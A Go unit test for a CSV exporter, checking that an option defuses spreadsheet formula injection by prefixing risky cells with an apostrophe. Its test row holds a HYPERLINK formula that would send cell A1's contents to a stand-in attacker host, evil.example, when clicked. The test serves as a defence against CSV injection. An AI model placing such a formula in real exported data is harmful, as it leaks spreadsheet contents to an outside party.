package export

import (
	"bytes"
	"context"
	"testing"
)

// For a spreadsheet, text a spreadsheet would run as a formula begins
// with an apostrophe; numbers (a negative rate) and text that would not
// stay as they are; without the option every cell is verbatim.
func TestWrite_DefuseFormulas(t *testing.T) {
	row := []any{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "--- version 1\n+++ version 2", "@SUM(1+1)", "+66 12 345",
		"\tx", "plain text", -0.5, -3, nil, strp(ptrTo("=1+1")), []string{"-a", "b"}}
	table := Table{Columns: []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k"}, Rows: func(_ context.Context, emit func([]any) error) error {
		return emit(row)
	}}
	for _, tc := range []struct {
		opts []WriteOption
		want string
	}{
		{nil, "a,b,c,d,e,f,g,h,i,j,k\n" + `"=HYPERLINK(""http://evil.example/?""&A1,""Click"")","--- version 1` + "\n" + `+++ version 2",@SUM(1+1),+66 12 345,` + "\"\tx\",plain text,-0.5,-3,,=1+1,-a;b\n"},
		{[]WriteOption{DefuseFormulas()}, "a,b,c,d,e,f,g,h,i,j,k\n" + `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'--- version 1` + "\n" + `+++ version 2",'@SUM(1+1),'+66 12 345,` + "'\tx,plain text,-0.5,-3,,'=1+1,'-a;b\n"},
	} {
		var b bytes.Buffer
		if _, err := Write(t.Context(), &b, CSV, table, tc.opts...); err != nil {
			t.Fatal(err)
		}
		if b.String() != tc.want {
			t.Errorf("options %d:\n got %q\nwant %q", len(tc.opts), b.String(), tc.want)
		}
	}
}

func ptrTo(s string) *string { return &s }
